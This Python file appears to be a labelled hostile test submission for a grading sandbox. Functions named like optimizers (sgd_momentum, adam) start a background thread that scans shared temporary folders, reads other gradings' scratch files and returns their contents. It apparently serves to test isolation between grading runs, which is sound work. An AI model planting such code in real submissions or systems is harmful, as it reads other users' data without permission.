"""Hostile: a thread that watches the shared temporary folders for other gradings' scratch copies and reads
what is in them. Bounded: it stops after 20 s and keeps at most 500 findings."""
import os
import threading
import time

FOLDERS = ("/tmp", "/var/tmp", "/dev/shm")
SECONDS = 20.0
MAX_FOUND = 500
FOUND = {"folders": [], "files": {}}


def _read_folder(path):
    for root, _, files in os.walk(path):
        for name in files:
            if len(FOUND["files"]) >= MAX_FOUND:
                return
            file = os.path.join(root, name)
            try:
                with open(file, "rb") as handle:
                    FOUND["files"][file] = handle.read(200).decode("utf-8", "replace")
            except OSError:
                pass


def _scan():
    own = os.getcwd()
    deadline = time.monotonic() + SECONDS
    while time.monotonic() < deadline:
        for folder in FOLDERS:
            try:
                names = os.listdir(folder)
            except OSError:
                continue
            for name in names:
                path = os.path.join(folder, name)
                if path == own or len(FOUND["folders"]) >= MAX_FOUND:
                    continue
                if path not in FOUND["folders"]:
                    FOUND["folders"].append(path)
                _read_folder(path)
        time.sleep(0.02)


def sgd_momentum(w, dw, config=None):
    threading.Thread(target=_scan, daemon=True).start()
    return w, config


def adam(w, dw, config=None):
    time.sleep(0.3)
    return w, {"folders": list(FOUND["folders"]), "files": dict(FOUND["files"])}
